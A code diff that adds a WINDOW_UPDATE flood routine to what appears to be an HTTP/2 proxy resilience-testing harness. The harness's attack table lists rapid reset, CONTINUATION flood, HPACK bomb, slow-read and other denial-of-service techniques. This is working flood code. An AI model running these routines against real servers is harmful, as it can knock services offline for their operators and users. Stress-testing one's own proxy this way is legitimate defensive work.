@@ -374,6 +374,17 @@ def rst_closed_flood(c, args):
     return c.result(frames=n, bytes_sent=sent)
 
 
+def window_update_flood(c, args):
+    # WINDOW_UPDATE (increment 1) on an open tunnel the proxy sends nothing on, as fast as possible: each one is
+    # legal, none is answered; the proxy allows a budget per DATA frame it sent.
+    c.start_h2()
+    open_stream(c, 1, args.authority)
+    c.wait(lambda: 1 in c.statuses, 10)
+    n, sent = flood(c, lambda i: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), args)
+    c.wait(lambda: False, 1)
+    return c.result(frames=n, bytes_sent=sent)
+
+
 def empty_data(c, args):
     c.start_h2()
     open_stream(c, 1, args.authority)
@@ -565,7 +576,8 @@ ATTACKS = {
     "rapid_reset": rapid_reset, "made_you_reset": made_you_reset,
     "continuation_flood": continuation_flood,
     "continuation_zero": lambda c, a: continuation_flood(c, a, zero=True),
-    "ping_flood": ping_flood, "settings_flood": settings_flood, "rst_flood": rst_flood, "rst_closed_flood": rst_closed_flood, "empty_data": empty_data,
+    "ping_flood": ping_flood, "settings_flood": settings_flood, "rst_flood": rst_flood, "rst_closed_flood": rst_closed_flood, "window_update_flood": window_update_flood,
+    "empty_data": empty_data,
     "hpack_bomb": hpack_bomb, "huge_headers": huge_headers, "zero_window": zero_window, "slow_read": slow_read,
     "dribble": dribble,
     "not_connect": bad_not_connect, "connect_with_path": bad_connect_with_path, "no_authority": bad_no_authority,
